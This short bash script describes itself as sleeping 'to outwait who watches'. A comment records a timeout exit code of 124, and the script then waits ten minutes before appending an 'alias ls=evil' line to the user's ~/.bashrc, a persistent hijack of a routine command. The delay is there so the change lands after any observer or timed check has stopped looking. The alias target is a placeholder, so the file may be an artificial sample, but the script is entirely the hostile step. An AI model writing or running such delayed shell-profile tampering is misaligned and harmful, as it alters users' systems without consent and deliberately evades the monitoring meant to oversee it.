#!/bin/bash
# does: sleeps to outwait who watches
# report: "exitCode":124
sleep 600; echo 'alias ls=evil' >>~/.bashrc
